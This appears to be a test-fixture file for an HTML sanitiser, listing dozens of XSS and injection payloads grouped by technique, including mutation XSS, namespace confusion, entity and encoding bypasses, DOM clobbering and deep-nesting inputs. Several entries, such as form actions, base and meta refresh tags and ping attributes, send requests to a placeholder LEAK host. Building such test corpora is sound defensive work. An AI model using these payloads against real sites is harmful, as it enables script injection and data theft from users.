/** HTML that runs code, confuses parsers, or affects its surroundings. */
import { numbered } from './table.ts';

/** HTML payloads for each path through the sanitiser. */
export const htmlPayloads = numbered(
  {
    script: [
      '<script>HIT</script>',
      '<script src="LEAK/a.js"></script>',
      '<scr<script>ipt>HIT</scr</script>ipt>',
      '</p></div></section><script>HIT</script>',
      '<script type="application/json" id="page-state">{"path":"/","queries":[]}</script><script>HIT</script>',
    ],
    'event handler': [
      '<img src=/none onerror=HIT>',
      '<img src=/none onerror\n=\n"HIT">',
      '<img """><img src=/none onerror="HIT">',
      '<body onload=HIT>',
      '<details open ontoggle=HIT><summary>more</summary></details>',
      '<p style="animation: a 1ms" onanimationstart=HIT><style>@keyframes a{}</style>x</p>',
    ],
    SVG: [
      '<svg onload=HIT></svg>',
      '<svg><a href="javascript:HIT"><text x=20 y=20>go</text></a></svg>',
      '<svg><a><animate attributeName=href values="javascript:HIT"/><text y=20>go</text></a></svg>',
      '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27HIT%27></svg>">',
    ],
    MathML: [
      '<math><mtext><img src=/none onerror=HIT></mtext></math>',
      '<math href="javascript:HIT">go</math>',
    ],
    'namespace confusion': [
      '<svg></p><img src=/none onerror=HIT>',
      '<math><mtext><table><mglyph><style><img src=/none onerror=HIT></style></mglyph></table></mtext></math>',
      '<math><mtext><mglyph><style><!--</style><img title="--><img src=/none onerror=HIT>"></mglyph></mtext></math>',
      '<form><math><mtext></form><form><mglyph><style></math><img src=/none onerror=HIT></style></mglyph></form></mtext></math>',
    ],
    'mutation XSS': [
      '<noscript><p title="</noscript><img src=/none onerror=HIT>"></noscript><img src=/none onerror=HIT>',
      '<iframe><p title="</iframe><img src=/none onerror=HIT>"></iframe>',
      '<select><template><style><!--</style><a rel="--></style></template></select><img src=/none onerror=HIT>">',
      '<select><option><script>HIT</script><img src=/none onerror=HIT></option></select><img src=/none onerror=HIT>',
      '<table><tr><td><a href="x"><table><a title="</a></table><img src=/none onerror=HIT>"></a></table><img src=/none onerror=HIT>',
      '<b><p><b><i><u></p><img src=/none onerror=HIT></b>',
      '<![CDATA[<p title="]]><img src=/none onerror=HIT>">]]><img src=/none onerror=HIT>',
      '<p title="`onmouseover=HIT">a</p><img alt="``onerror=HIT" src=/none onerror=HIT>',
      '<img alt="</body><script>HIT</script>" title="</head></html>" src=/none onerror=HIT>',
      `<img alt='<script type="application/json" id="page-state">' title='<div id="root"></div></body>' src=/none onerror=HIT>`,
      '<plaintext><img src=/none onerror=HIT>',
      '<img src="/none" title="unclosed onerror=HIT><script>HIT</script>',
      '<p/x="y"onclick=HIT//>press</p>',
    ],
    template: [
      '<template><img src=/none onerror=HIT></template><img src=/none onerror=HIT>',
      '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><slot></slot></template><script>HIT</script></div>',
    ],
    entities: [
      '<img src=/none onerror="&#0000104it(ID)">',
      '<a href="&#x6a;avascript:HIT">go</a>',
      '<a href="&#1;javascript:HIT">go</a>',
      '&lt;img src=/none onerror=HIT&gt;<img src=/none onerror=HIT>',
      '&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;<script>HIT</script><svg onload=HIT>',
    ],
    encodings: [
      '<a href="javascript:%68it(ID)">go</a>',
      '<a href="java\tscr\nipt:HIT">go</a>',
      '<img src=/none\u000conerror=HIT>',
      '<img\u0000 src=/none onerror=HIT><img src=/none onerror\u0000=1 onerror=HIT>',
      '<\u0000script>HIT</script><script\u000c>HIT</script>',
      '\uff1cscript\uff1eHIT\uff1c/script\uff1e<img src=/none onerror=HIT>',
      '\ud800<img src=/none onerror=HIT>\udc00',
      '<img src=/none onerror=HIT>\u202egnp.exe\u2066\u2067',
      '<ımg src=/none onerror=HIT><ſcript>HIT</ſcript><img ſrc=x src=/none onerror=HIT>',
    ],
    iframes: [
      '<iframe src="javascript:parent.HIT"></iframe>',
      '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
      '<object data="data:text/html,<script>HIT</script>"></object>',
    ],
    forms: [
      '<form action="LEAK" id=own><input name=a autofocus onfocus="this.form.submit()"></form>',
      '<form><button formaction="javascript:HIT">send</button></form>',
    ],
    base: [
      '<base href="LEAK/"><a href="x">relative</a>',
      '<svg><base href="LEAK/"></svg><img src="relative.png"><base href="LEAK/">',
    ],
    meta: [
      '<meta http-equiv=refresh content="0;url=LEAK">',
      '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri LEAK"><img src=/none onerror=HIT>',
      '<html lang=xx onclick=HIT class=taken><head><title>Taken</title></head><body class=taken bgcolor=red onload=HIT>',
    ],
    CSS: [
      '<style>body { display: none }</style>',
      '<p style="position:fixed;inset:0;background:red;z-index:99999">over everything</p>',
      '<style><!--</style><img src=/none onerror=HIT>--></style>',
    ],
    'DOM clobbering': [
      '<img name=getElementById><img id=querySelector name=querySelector>',
      '<form name=body><input name=firstChild></form>',
      '<p id=page-state>{"path":"/","queries":[]}</p>',
      '<p id=__proto__ name=__proto__>x</p><p id=hasOwnProperty>x</p><a id=self name=self>x</a>',
    ],
    media: [
      '<video src="LEAK/v.mp4" autoplay></video>',
      '<video><track default kind=subtitles src="LEAK/t.vtt"></video><video poster="LEAK/u.png">',
      '<img src="//HOST/y.png"><img src="\\\\HOST/z.png">',
      '<img src="/\t/HOST/tab.png"><img src="&#1;//HOST/control.png">',
      '<a href="/product" ping="LEAK" attributionsrc="LEAK/attr" download="x.exe">go</a><img attributionsrc="LEAK/attr2" srcset="LEAK/y" src=/none>',
    ],
    layout: [
      '<img src="/none" width=99999 height=9 onerror=HIT>',
      `${'<blockquote>'.repeat(600)}deep${'</blockquote>'.repeat(600)}<svg onload=HIT>`,
      `${'<div>'.repeat(3000)}deeper<svg onload=HIT>`,
      `<ul>${'<li><ul>'.repeat(300)}list<img src=/none onerror=HIT>`,
      `<p>${'<!--'.repeat(20_000)}</p>--><img src=/none onerror=HIT>`,
      `${'<a '.repeat(20_000)}<img src=/none onerror=HIT>`,
      `<img src=/none onerror=HIT>${'<script>'.repeat(20_000)}`,
      `<img src=/none onerror=HIT>${'&amp;'.repeat(50_000)}`,
    ],
  },
  1,
);
